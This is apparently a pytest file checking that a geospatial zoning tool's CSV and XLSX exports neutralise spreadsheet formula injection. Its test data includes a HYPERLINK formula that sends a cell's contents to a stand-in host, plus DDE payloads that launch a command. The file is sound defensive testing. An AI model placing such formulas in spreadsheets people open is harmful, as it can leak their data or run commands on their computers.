"""Spreadsheet formula injection: text that starts like a formula is written as text in XLSX
and neutralised with a leading quote in CSV (OWASP), in firm, check and siting outputs;
numbers, numeric columns and ids in GPKG/JSON are unchanged."""

from __future__ import annotations

import csv
import json

import geopandas as gpd
import openpyxl
import pandas as pd
import shapely
from click.testing import CliRunner

from sxzones.cli import cli
from sxzones.outputs import neutralise_formulas, write_csv, write_xlsx

from .conftest import CATALOG

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cli(*args: str):
    return CliRunner().invoke(cli, list(args))


def _csv_rows(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _no_formulas(path) -> list:
    """Every cell of every sheet; asserts none is a formula."""
    book = openpyxl.load_workbook(path)
    cells = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                cells.append(c)
    return cells


def test_writers_neutralise_text_only(tmp_path):
    frame = pd.DataFrame(
        {
            "id": [*HOSTILE, "-12.5", "plain"],
            "=cmd": ["a"] * 8,  # a hostile column name too
            "value": [-1.5, -2.0, 3.0, -4.0, 5.0, 6.0, -7.25, 8.0],
        }
    )
    write_csv(frame, tmp_path / "t.csv")
    rows = _csv_rows(tmp_path / "t.csv")
    assert list(rows[0]) == ["id", "'=cmd", "value"]
    assert [r["id"] for r in rows] == ["'" + h for h in HOSTILE] + ["-12.5", "plain"]
    assert [r["value"] for r in rows] == ["-1.5", "-2", "3", "-4", "5", "6", "-7.25", "8"]
    write_xlsx({"s": frame}, tmp_path / "t.xlsx")
    cells = _no_formulas(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    assert ws["B1"].value == "=cmd" and ws["B1"].data_type == "s"
    # (XML reads a carriage return back as a line feed: its line-end normalisation)
    xml = [h.replace("\r", "\n") for h in HOSTILE]
    assert [ws.cell(row=i, column=1).value for i in range(2, 10)] == [*xml, "-12.5", "plain"]
    assert all(ws.cell(row=i, column=1).quotePrefix for i in range(2, 8))
    assert [ws.cell(row=i, column=3).value for i in range(2, 10)] == frame["value"].tolist()
    assert all(ws.cell(row=i, column=3).data_type == "n" for i in range(2, 10))
    assert len(cells) == 27
    # the frame given is not modified
    assert frame["id"].tolist()[0] == HOSTILE[0]
    assert neutralise_formulas(frame)["id"].tolist()[-2:] == ["-12.5", "plain"]


def test_firm_outputs_hold_no_live_formula(tmp_path):
    hostile = HOSTILE[:5]  # (the CSV reader refuses a quoted carriage return in a cell)
    n = len(hostile)
    firms = tmp_path / "firms.csv"
    pd.DataFrame(
        {
            "firm_id": [f"=F{i}()" if i % 2 else f"F{i}" for i in range(n)],
            "name": hostile,
            "industry": "steel",
            "capacity": [-5.5 + i for i in range(n)],
            "lon": [112.5 + 0.01 * i for i in range(n)],
            "lat": 37.8,
        }
    ).to_csv(firms, index=False)
    out = tmp_path / "o"
    res = _cli(
        "firms", "--firms", str(firms), "--crs", "wgs84", "--builtup", "builtup_demonstration",
        "--catalog", str(CATALOG), "--out", str(out),
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    rows = _csv_rows(out / "firm_zones.csv")
    assert [r["name"] for r in rows] == ["'" + h for h in hostile]
    assert [r["firm_id"] for r in rows] == [f"'=F{i}()" if i % 2 else f"F{i}" for i in range(n)]
    assert [float(r["capacity"]) for r in rows] == [-5.5 + i for i in range(n)]
    _no_formulas(out / "firm_zones.xlsx")
    sheet = pd.read_excel(out / "firm_zones.xlsx", sheet_name=None)
    firm_sheets = ("summary", "sources")  # the sources sheet lists layers, not firms
    names = [v for k, s in sheet.items() if k not in firm_sheets for v in s["name"]]
    assert sorted(names) == sorted(hostile)  # the text itself is unchanged
    assert sorted(sheet[next(k for k in sheet if k not in firm_sheets)]["capacity"]) == sorted(
        -5.5 + i for i in range(n)
    )
    gpkg = gpd.read_file(out / "firm_zones.gpkg")
    assert sorted(gpkg["firm_id"]) == sorted(f"=F{i}()" if i % 2 else f"F{i}" for i in range(n))


def test_site_check_csv_neutralises_project_ids(tmp_path):
    projects = tmp_path / "p.csv"
    projects.write_text(
        'project_id,industry,lon,lat\n"=1+1",pv,112.55,37.87\n"@x",pv,112.56,37.88\n',
        encoding="utf-8",
    )
    out = tmp_path / "o"
    res = _cli(
        "check", "--projects", str(projects), "--crs", "wgs84", "--catalog", str(CATALOG),
        "--out", str(out), "--reports", "none",
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    assert [r["project_id"] for r in _csv_rows(out / "site_check.csv")] == ["'=1+1", "'@x"]
    doc = json.loads((out / "site_check.json").read_text(encoding="utf-8"))
    assert [p["project_id"] for p in doc["projects"]] == ["=1+1", "@x"]


def test_siting_outputs_hold_no_live_formula(tmp_path):
    cands = tmp_path / "cands.geojson"
    gpd.GeoDataFrame(
        {
            "site_id": ["=S1()", "S2"],
            "name": ["@SUM(1)", "+cmd|' /C calc'!A0"],
            "kind": "abandoned_mine",
        },
        geometry=[
            shapely.box(112.50, 37.80, 112.51, 37.81),
            shapely.box(112.52, 37.80, 112.53, 37.81),
        ],
        crs=4490,
    ).to_file(cands)
    out = tmp_path / "o"
    res = _cli(
        "sites", "--candidates", str(cands), "--tech", "pv", "--no-rule-exclusions",
        "--catalog", str(CATALOG), "--out", str(out),
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    rows = _csv_rows(out / "eligible_sites.csv")
    assert [r["site_id"] for r in rows] == ["'=S1()", "S2"]
    assert [r["name"] for r in rows] == ["'@SUM(1)", "'+cmd|' /C calc'!A0"]
    _no_formulas(out / "eligible_sites.xlsx")
    sites = pd.read_excel(out / "eligible_sites.xlsx", sheet_name="sites")
    assert sites["site_id"].tolist() == ["=S1()", "S2"]
